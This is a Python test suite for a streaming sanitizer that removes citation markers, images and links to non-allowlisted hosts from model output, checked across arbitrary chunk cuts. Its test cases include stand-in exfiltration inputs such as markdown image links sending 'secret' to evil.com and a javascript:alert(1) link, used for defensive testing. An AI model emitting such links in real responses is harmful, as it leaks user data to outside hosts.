"""What a model writes is clean however it is cut."""

from itertools import pairwise

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from answering.stream_sanitizer import StreamSanitizer

MARK = "\ue200filecite\ue202turn0file0\ue202turn0file12\ue201"
GOOD = "https://help.acme.com/a?b=(c)"


def clean(text: str, cuts: list[int] | None = None) -> str:
    scrubber = StreamSanitizer(lambda address: address.startswith("https://help.acme.com"))
    edges = sorted({min(cut, len(text)) for cut in cuts or []} | {0, len(text)})
    shown = [scrubber.feed(text[start:end]) for start, end in pairwise(edges)]
    return "".join(shown) + scrubber.close()


CASES = [
    ("Plain words, and a filed case.", "Plain words, and a filed case."),
    (f"60 days.{MARK} We pay.", "60 days. We pay."),
    (f"{MARK}60 days.{MARK}", "60 days."),
    ("Open \ue200cite\ue202turn0search3\ue201", "Open "),
    ("Lost \ue201 end and \ue202 middle", "Lost  end and  middle"),
    ("Unfinished \ue200filecite\ue202turn0", "Unfinished "),
    ("60 days fileciteturn0file3. We pay", "60 days . We pay"),
    ("60 days filecite turn0file3turn0file5 We pay", "60 days We pay"),
    ("Please cite the invoice and file it", "Please cite the invoice and file it"),
    ("60 days【4:0†returns.md】.", "60 days."),
    ("A box【not a mark】.", "A box【not a mark】."),
    ("See ![pixel](https://evil.com/?q=secret) this", "See pixel this"),
    ("See ![](https://evil.com/?q=secret)this", "See this"),
    ("See ![](https://help.acme.com/x.png) this", "See  this"),
    ("Go [there](https://evil.com/?q=1) now", "Go there now"),
    (f"Go [there]({GOOD}) now", f"Go [there]({GOOD}) now"),
    ("Go [there](javascript:alert(1)) now", "Go there now"),
    ('Go [there](https://evil.com "title") now', "Go there now"),
    ("Go [there]( https://evil.com ) now", "Go there now"),
    ("Go [there][1]\n\n[1]: https://evil.com/x", "Go [there][1]\n\n[1]: "),
    ("Go to https://evil.com/?q=1. Now", "Go to . Now"),
    ("Go to <https://evil.com>. Now", "Go to <>. Now"),
    (f"Go to {GOOD}. Now", f"Go to {GOOD}. Now"),
    ("Go to www.evil.com/x now", "Go to  now"),
    ("Go to HTTPS://EVIL.COM now", "Go to  now"),
    ("An [open bracket and no end", "An [open bracket and no end"),
    ("- [ ] a task\n- [x] done", "- [ ] a task\n- [x] done"),
    ("Wow! Really! [1]", "Wow! Really! [1]"),
    ("ends in !", "ends in !"),
    ("the httpster and the wwwolf", "the httpster and the wwwolf"),
    ("", ""),
]


@pytest.mark.parametrize(("text", "shown"), CASES)
def test_marks_pictures_and_strange_links_do_not_reach_the_reader(text: str, shown: str) -> None:
    assert clean(text) == shown


@pytest.mark.parametrize(("text", "shown"), CASES)
def test_a_cut_anywhere_or_everywhere_changes_nothing(text: str, shown: str) -> None:
    assert clean(text, list(range(len(text)))) == shown
    for cut in range(len(text)):
        assert clean(text, [cut]) == shown, cut


@given(st.sampled_from(CASES), st.lists(st.integers(0, 80)))
def test_cuts_change_nothing(case: tuple[str, str], cuts: list[int]) -> None:
    text, shown = case

    assert clean(text, cuts) == shown


@given(
    st.text(alphabet="a !?[](){}\ue200\ue201\ue202【】†fileciteturn0hwps:/.\n", max_size=60),
    st.lists(st.integers(0, 60)),
)
@example("![[]](x)", [1])
@example("[a](https://evil.com/(x", [3, 9])
@example("[\n\n\ue200]0", [3])
@example("【\ue200】", [])
def test_any_text_comes_out_whatever_the_cuts_and_no_mark_does(text: str, cuts: list[int]) -> None:
    shown = clean(text, cuts)

    assert shown == clean(text)
    assert not set(shown) & set("\ue200\ue201\ue202")
    assert len(shown) <= len(text)


def test_a_long_text_that_never_closes_is_shown_while_it_comes() -> None:
    scrubber = StreamSanitizer(lambda address: True)
    scrubber.feed("[")

    assert scrubber.feed("word " * 1000)


def test_places_are_found_again_in_the_clean_text() -> None:
    scrubber = StreamSanitizer(lambda address: True)
    text = f"60 days.{MARK} We pay.{MARK}"
    shown = scrubber.feed(text) + scrubber.close()

    assert shown == "60 days. We pay."
    assert scrubber.place(8) == 8
    assert scrubber.place(8 + len(MARK)) == 8
    assert scrubber.place(16 + len(MARK)) == 16
    assert scrubber.place(len(text)) == 16
    assert scrubber.place(10_000) == 16
    assert scrubber.taken == len(text)
